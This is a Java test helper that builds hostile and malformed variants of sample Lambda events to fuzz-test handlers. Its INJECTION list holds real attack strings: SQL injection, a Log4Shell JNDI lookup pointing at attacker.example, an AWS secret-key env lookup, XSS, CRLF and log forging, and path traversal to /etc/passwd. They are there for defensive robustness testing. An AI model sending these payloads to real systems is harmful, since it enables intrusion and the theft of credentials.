package com.ccs.workflows.testing;

import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Hostile and malformed variants of a valid sample event, as Lambda's serialiser would hand them to a handler
 * (maps, lists, strings, numbers, booleans, null). Plain {@link Random} with a printed seed, so a failing case
 * can be replayed with {@code -Dccs.hostile.seed=<seed>}.
 *
 * <p>Two parts:
 * <ul>
 *   <li>systematic (independent of the seed): for every field path of the sample, the field removed, replaced by
 *   each wrong JSON type, by huge strings and arrays, by each unicode, injection and edge-number value; plus
 *   whole-event cases (not an object, empty, padded to the 256 KiB Step Functions limit, odd extra keys);</li>
 *   <li>random (from the seed): one to three paths at once get random picks from the same pools, or random
 *   strings over a hostile alphabet.</li>
 * </ul>
 * Huge values are built once and shared between cases: events are never mutated by the handlers under test in
 * a way that would change a shared string, and copying 250 KiB thousands of times would only slow tests down.
 */
public final class HostileEvents {
    /** A little under the 256 KiB Step Functions payload limit, leaving room for the rest of the event. */
    public static final int HUGE_STRING_CHARS = 250 * 1024;

    public static final int HUGE_ARRAY_ITEMS = 10_000;

    private static final String HUGE_ASCII = "A".repeat(HUGE_STRING_CHARS);
    private static final String HUGE_DIGITS = "9".repeat(HUGE_STRING_CHARS / 2);
    /** Valid-looking grouped digits: long inputs for patterns with repeated groups (NIT, cedula). */
    private static final String HUGE_GROUPED = "1" + ".000".repeat(HUGE_STRING_CHARS / 8) + "-0";
    /** Four bytes per code point in UTF-8: 250 K characters, about 500 KB on the wire. */
    private static final String HUGE_EMOJI = "\uD83D\uDE9A".repeat(HUGE_STRING_CHARS / 4);

    private static final String HUGE_MULTILINE = "x\r\n".repeat(HUGE_STRING_CHARS / 3);

    public static final List<String> UNICODE = List.of(
            "\u202Egnp.exe", // right-to-left override
            "\u0634\u0631\u0643\u0629 \u0627\u0644\u0646\u0642\u0644", // Arabic
            "\u05D7\u05D1\u05E8\u05D4", // Hebrew
            "\uD83D\uDE9A\uD83D\uDEA8\uD83D\uDD25", // emoji
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67", // ZWJ sequence
            "Z\u0334\u0321\u031B\u032Da\u0337l\u0336g\u0338o", // combining marks
            "a\u0301".repeat(2000), // long combining run
            "a\u0000b", // NUL
            "\u0000",
            "\uD800", // unpaired high surrogate
            "\uDC00x", // unpaired low surrogate
            "x\uD83D", // truncated pair
            "\uFEFFABC123", // BOM
            "ABC\u200B123", // zero-width space
            "\uFF21\uFF22\uFF23\uFF11\uFF12\uFF13", // full-width ABC123
            "\u0410\u0412\u0421123", // Cyrillic look-alike of ABC123
            "ABC-\u0661\u0662\u0663", // Arabic-Indic digits
            "\u0131\u0130\u00DF", // case-mapping traps
            "line\u2028separator\u2029",
            "\u0007\u0008\u001B[31mred", // control characters, ANSI escape
            " \t\n ", // whitespace only
            "");

    public static final List<String> INJECTION = List.of(
            "' OR '1'='1",
            "1; DROP TABLE contracts;--",
            "{\"$gt\": \"\"}",
            "#a = :b OR attribute_exists(contract_id)",
            "contract_id = :v OR #x <> :y",
            ":status, #ttl = :zero",
            "$..*",
            "$.task_token",
            "States.JsonToString($)",
            "${jndi:ldap://attacker.example/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "#{7*7}{{7*7}}",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "ok\r\n{\"level\":\"ERROR\",\"message\":\"forged log line\"}",
            "x\r\nSet-Cookie: session=stolen",
            "+",
            "#",
            "/",
            "VEH-1/+/#",
            "$aws/things/VEH-1/shadow/update",
            "../../../etc/passwd",
            "%00%2F..%2F",
            "REQUEST#exec-12345",
            "COUNTER#2026",
            "EXECUTION#exec-12345",
            "apr_AAAAAAAAAAAAAAAAAAAAAA",
            "CONT-2026-000001",
            "__proto__",
            "null",
            "true",
            "[]",
            "{}");

    public static final List<Object> EDGE_NUMBERS = List.of(
            0,
            -1,
            1,
            Integer.MAX_VALUE,
            Integer.MIN_VALUE,
            Long.MAX_VALUE,
            Long.MIN_VALUE,
            BigInteger.TWO.pow(63),
            BigInteger.TWO.pow(64),
            BigInteger.TWO.pow(63).negate().subtract(BigInteger.ONE),
            BigInteger.TEN.pow(30),
            1e308,
            -1e308,
            Double.MAX_VALUE,
            Double.MIN_VALUE,
            -0.0,
            0.0,
            0.5,
            1.0,
            1e-7,
            3.14159,
            "NaN",
            "Infinity",
            "-Infinity",
            "1e309",
            "0x1F",
            "75",
            " 42 ",
            "-0",
            "1,000");

    /** A value of each JSON type; the handlers must reject each where it does not belong. */
    private static final List<Object> WRONG_TYPES = List.of(true, false, 42, 1.5, "text");

    private static final char[] RANDOM_ALPHABET = ("AZaz09-_.:/+#$%&'\"<>{}[]()*;=?@\\|`~!^ \t\r\n"
                    + "\u0000\u0007\u001B\u00E9\u00F1\u0130\u0131\u05D0\u0627\u200B\u200D\u202E\u2028\uFEFF\uFFFD\uD800\uDC00")
            .toCharArray();

    private static final Pattern INDEX = Pattern.compile("\\[\\d+]");

    private final long seed;
    private final Random random;

    public HostileEvents(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    /** The same seed on every run unless one is given, so a build gate never differs between two runs. */
    static final long DEFAULT_SEED = 20_261_125L;

    /**
     * The seed from {@code -Dccs.hostile.seed} (or {@code CCS_HOSTILE_SEED}): a number to replay a failure,
     * {@code random} to explore new cases; otherwise {@link #DEFAULT_SEED}.
     */
    public static HostileEvents seeded() {
        String given = System.getProperty("ccs.hostile.seed", System.getenv("CCS_HOSTILE_SEED"));
        long seed = given == null || given.isBlank()
                ? DEFAULT_SEED
                : given.strip().equals("random") ? new Random().nextLong() : Long.parseLong(given.strip());
        return new HostileEvents(seed);
    }

    public long seed() {
        return seed;
    }

    /** One hostile event: what was changed ({@code paths}, "" for the whole event) and how ({@code kind}). */
    public record Case(List<String> paths, String kind, Object event) {
        @Override
        public String toString() {
            return kind + " at " + paths;
        }
    }

    /** The systematic cases, then {@code randomCases} random ones. */
    public List<Case> cases(Map<String, Object> sample, int randomCases) {
        List<Case> cases = new ArrayList<>(systematic(sample));
        cases.addAll(random(sample, randomCases));
        return cases;
    }

    public List<Case> systematic(Map<String, Object> sample) {
        List<Case> cases = new ArrayList<>();
        wholeEvent(sample, cases);
        for (String path : paths(sample)) {
            Object original = get(sample, path);
            cases.add(mutated(sample, path, "removed", REMOVE));
            cases.add(mutated(sample, path, "null", null));
            for (Object wrong : WRONG_TYPES) {
                cases.add(mutated(sample, path, "type " + typeName(wrong), wrong));
            }
            cases.add(mutated(sample, path, "empty array", new ArrayList<>()));
            cases.add(mutated(sample, path, "empty object", new LinkedHashMap<>()));
            cases.add(mutated(sample, path, "array of the value", new ArrayList<>(List.of(copy(original)))));
            cases.add(mutated(
                    sample, path, "object wrapping the value", new LinkedHashMap<>(Map.of("value", copy(original)))));
            for (String huge : List.of(HUGE_ASCII, HUGE_DIGITS, HUGE_GROUPED, HUGE_EMOJI, HUGE_MULTILINE)) {
                cases.add(mutated(sample, path, "huge string of " + huge.length() + " chars", huge));
            }
            cases.add(mutated(sample, path, "huge array", hugeArray(original)));
            cases.add(mutated(sample, path, "deeply nested", nested(500)));
            UNICODE.forEach(u -> cases.add(mutated(sample, path, "unicode " + escape(u), u)));
            INJECTION.forEach(s -> cases.add(mutated(sample, path, "injection " + escape(s), s)));
            EDGE_NUMBERS.forEach(n -> cases.add(mutated(sample, path, "number " + escape(String.valueOf(n)), n)));
            if (original instanceof String s && !s.isEmpty()) {
                cases.add(mutated(sample, path, "value with injection suffix", s + "' OR '1'='1"));
                cases.add(mutated(sample, path, "value with CRLF suffix", s + "\r\nforged: yes"));
                cases.add(mutated(sample, path, "value padded with spaces", "   " + s + "   "));
                cases.add(mutated(sample, path, "value lower-cased", s.toLowerCase(java.util.Locale.ROOT)));
            }
        }
        return cases;
    }

    public List<Case> random(Map<String, Object> sample, int count) {
        List<String> paths = paths(sample);
        List<Case> cases = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            int changes = 1 + random.nextInt(3);
            Object event = copy(sample);
            List<String> changed = new ArrayList<>();
            List<String> kinds = new ArrayList<>();
            for (int c = 0; c < changes; c++) {
                String path = paths.get(random.nextInt(paths.size()));
                if (get(event, path) == MISSING) {
                    continue; // an ancestor was already replaced
                }
                Object value = randomValue(get(event, path));
                event = set(event, path, value);
                changed.add(path);
                kinds.add(value == REMOVE ? "removed" : describe(value));
            }
            cases.add(new Case(changed, "random#" + i + " " + String.join(", ", kinds), event));
        }
        return cases;
    }

    private void wholeEvent(Map<String, Object> sample, List<Case> cases) {
        cases.add(new Case(List.of(""), "event null", null));
        cases.add(new Case(List.of(""), "event empty object", new LinkedHashMap<>()));
        Map<String, Object> padded = copy(sample);
        padded.put("padding", HUGE_ASCII);
        cases.add(new Case(List.of(""), "event padded near 256 KiB", padded));
        Map<String, Object> oddKeys = copy(sample);
        for (String key :
                List.of("", " ", "__proto__", "constructor", "$..*", "#a", ":b", "a.b", "a[0]", "\u0000", "\uD800")) {
            oddKeys.put(key, "x");
        }
        cases.add(new Case(List.of(""), "event with odd extra keys", oddKeys));
        Map<String, Object> manyKeys = copy(sample);
        for (int i = 0; i < HUGE_ARRAY_ITEMS; i++) {
            manyKeys.put("extra_" + i, i);
        }
        cases.add(new Case(List.of(""), "event with 10000 extra keys", manyKeys));
    }

    private Object randomValue(Object original) {
        return switch (random.nextInt(12)) {
            case 0 -> REMOVE;
            case 1 -> null;
            case 2 -> WRONG_TYPES.get(random.nextInt(WRONG_TYPES.size()));
            case 3 -> UNICODE.get(random.nextInt(UNICODE.size()));
            case 4 -> INJECTION.get(random.nextInt(INJECTION.size()));
            case 5 -> EDGE_NUMBERS.get(random.nextInt(EDGE_NUMBERS.size()));
            case 6 -> randomString(random.nextInt(random.nextBoolean() ? 16 : 600));
            case 7 -> original instanceof String s ? mangle(s) : randomString(8);
            case 8 ->
                List.of(HUGE_ASCII, HUGE_DIGITS, HUGE_GROUPED, HUGE_EMOJI, HUGE_MULTILINE)
                        .get(random.nextInt(5));
            case 9 -> random.nextBoolean() ? new ArrayList<>() : new LinkedHashMap<>();
            case 10 -> random.nextInt(4) == 0 ? hugeArray(original) : randomList();
            default -> original instanceof Number ? randomNumber() : randomString(1 + random.nextInt(40));
        };
    }

    private String randomString(int length) {
        StringBuilder out = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            out.append(RANDOM_ALPHABET[random.nextInt(RANDOM_ALPHABET.length)]);
        }
        return out.toString();
    }

    /** The original value with one character inserted, replaced or deleted: near misses of valid ids. */
    private String mangle(String s) {
        if (s.isEmpty()) {
            return randomString(3);
        }
        StringBuilder out = new StringBuilder(s);
        int at = random.nextInt(s.length());
        char c = RANDOM_ALPHABET[random.nextInt(RANDOM_ALPHABET.length)];
        switch (random.nextInt(3)) {
            case 0 -> out.insert(at, c);
            case 1 -> out.setCharAt(at, c);
            default -> out.deleteCharAt(at);
        }
        return out.toString();
    }

    private Object randomNumber() {
        return switch (random.nextInt(5)) {
            case 0 -> random.nextInt();
            case 1 -> random.nextLong();
            case 2 -> random.nextDouble() * Math.pow(10, random.nextInt(300)) * (random.nextBoolean() ? 1 : -1);
            case 3 -> new BigInteger(70 + random.nextInt(60), random);
            default -> -random.nextInt(1000);
        };
    }

    private List<Object> randomList() {
        List<Object> list = new ArrayList<>();
        int size = random.nextInt(6);
        for (int i = 0; i < size; i++) {
            list.add(
                    switch (random.nextInt(4)) {
                        case 0 -> randomString(random.nextInt(12));
                        case 1 -> randomNumber();
                        case 2 -> null;
                        default -> new LinkedHashMap<>(Map.of(randomString(3), randomString(5)));
                    });
        }
        return list;
    }

    private static List<Object> hugeArray(Object original) {
        Object element = original instanceof List<?> list && !list.isEmpty() ? list.get(0) : original;
        // Repeat only a small element: 10,000 copies of an already huge value would be gigabytes, not an event.
        Object small = String.valueOf(element).length() <= 256 ? element : "x";
        return new ArrayList<>(Collections.nCopies(HUGE_ARRAY_ITEMS, small));
    }

    private static Object nested(int depth) {
        Object value = "bottom";
        for (int i = 0; i < depth; i++) {
            value = i % 2 == 0 ? new ArrayList<>(List.of(value)) : new LinkedHashMap<>(Map.of("n", value));
        }
        return value;
    }

    private static Case mutated(Map<String, Object> sample, String path, String kind, Object value) {
        return new Case(List.of(path), kind, set(copy(sample), path, value));
    }

    // ----- paths: "a", "a.b", "list[0]", "list[0].b" -----

    /** Every field path of {@code event}, containers before their contents. */
    public static List<String> paths(Map<String, Object> event) {
        List<String> out = new ArrayList<>();
        collect(event, "", out);
        return out;
    }

    /** The paths of {@code event} with array indexes blanked ({@code vehicles[]}.plate), for "is this a real field". */
    public static Set<String> pathShapes(Map<String, Object> event) {
        Set<String> shapes = new LinkedHashSet<>();
        paths(event).forEach(p -> shapes.add(shape(p)));
        return shapes;
    }

    public static String shape(String path) {
        return INDEX.matcher(path).replaceAll("[]");
    }

    private static void collect(Object node, String prefix, List<String> out) {
        if (node instanceof Map<?, ?> map) {
            map.forEach((key, value) -> {
                String path = prefix.isEmpty() ? String.valueOf(key) : prefix + "." + key;
                out.add(path);
                collect(value, path, out);
            });
        } else if (node instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                String path = prefix + "[" + i + "]";
                out.add(path);
                collect(list.get(i), path, out);
            }
        }
    }

    private static final Object REMOVE = new Object() {
        @Override
        public String toString() {
            return "<removed>";
        }
    };
    private static final Object MISSING = new Object();
    private static final Pattern STEP = Pattern.compile("([^.\\[]+)|\\[(\\d+)]");

    private static List<Object> steps(String path) {
        List<Object> steps = new ArrayList<>();
        Matcher m = STEP.matcher(path);
        while (m.find()) {
            steps.add(m.group(1) != null ? m.group(1) : Integer.valueOf(m.group(2)));
        }
        return steps;
    }

    /** Returned by {@link #valueAt} for a path the event does not have. */
    public static final Object ABSENT = new Object() {
        @Override
        public String toString() {
            return "<absent>";
        }
    };

    /** The value at {@code path} ({@code null} for a JSON null), or {@link #ABSENT}. */
    public static Object valueAt(Object event, String path) {
        Object value = get(event, path);
        return value == MISSING ? ABSENT : value;
    }

    /** The JSON type of a value as Lambda's serialiser produces it: string, number, boolean, array, object, null. */
    public static String jsonType(Object value) {
        if (value == null) {
            return "null";
        }
        if (value instanceof String) {
            return "string";
        }
        if (value instanceof Number) {
            return "number";
        }
        if (value instanceof Boolean) {
            return "boolean";
        }
        if (value instanceof List<?>) {
            return "array";
        }
        if (value instanceof Map<?, ?>) {
            return "object";
        }
        return value == ABSENT ? "absent" : value.getClass().getSimpleName();
    }

    /** The value at {@code path}, or {@link #MISSING}. */
    private static Object get(Object event, String path) {
        Object node = event;
        for (Object step : steps(path)) {
            if (step instanceof String key && node instanceof Map<?, ?> map && map.containsKey(key)) {
                node = map.get(key);
            } else if (step instanceof Integer index && node instanceof List<?> list && index < list.size()) {
                node = list.get(index);
            } else {
                return MISSING;
            }
        }
        return node;
    }

    @SuppressWarnings("unchecked")
    private static Object set(Object event, String path, Object value) {
        List<Object> steps = steps(path);
        Object node = event;
        for (int i = 0; i < steps.size() - 1; i++) {
            Object step = steps.get(i);
            node = step instanceof String key
                    ? ((Map<String, Object>) node).get(key)
                    : ((List<Object>) node).get((Integer) step);
        }
        Object last = steps.get(steps.size() - 1);
        if (last instanceof String key) {
            if (value == REMOVE) {
                ((Map<String, Object>) node).remove(key);
            } else {
                ((Map<String, Object>) node).put(key, value);
            }
        } else if (value == REMOVE) {
            ((List<Object>) node).remove((int) (Integer) last);
        } else {
            ((List<Object>) node).set((Integer) last, value);
        }
        return event;
    }

    /** A deep copy of maps and lists (leaves are immutable), so each case can be changed on its own. */
    @SuppressWarnings("unchecked")
    public static <T> T copy(T value) {
        if (value instanceof Map<?, ?> map) {
            Map<String, Object> out = new LinkedHashMap<>();
            map.forEach((k, v) -> out.put(String.valueOf(k), copy(v)));
            return (T) out;
        }
        if (value instanceof List<?> list) {
            List<Object> out = new ArrayList<>(list.size());
            list.forEach(v -> out.add(copy(v)));
            return (T) out;
        }
        return value;
    }

    private static String typeName(Object value) {
        return value == null ? "null" : value.getClass().getSimpleName();
    }

    private static String describe(Object value) {
        if (value instanceof String s) {
            return s.length() > 30 ? "string of " + s.length() + " chars" : "string " + escape(s);
        }
        if (value instanceof List<?> list) {
            return "array of " + list.size();
        }
        if (value instanceof Map<?, ?> map) {
            return "object of " + map.size();
        }
        return typeName(value) + " " + value;
    }

    /** A short printable rendering of a value for case names (control characters and surrogates escaped). */
    public static String escape(String value) {
        return escape(value, 30);
    }

    /** {@link #escape(String)} keeping up to {@code max} characters. */
    public static String escape(String value, int max) {
        StringBuilder out = new StringBuilder();
        String s = value.length() > max ? value.substring(0, max) + "...(" + value.length() + " chars)" : value;
        for (char c : s.toCharArray()) {
            out.append(
                    c < 0x20 || Character.isSurrogate(c) || c == 0x7F
                            ? String.format("\\u%04x", (int) c)
                            : String.valueOf(c));
        }
        return "\"" + out + "\"";
    }
}
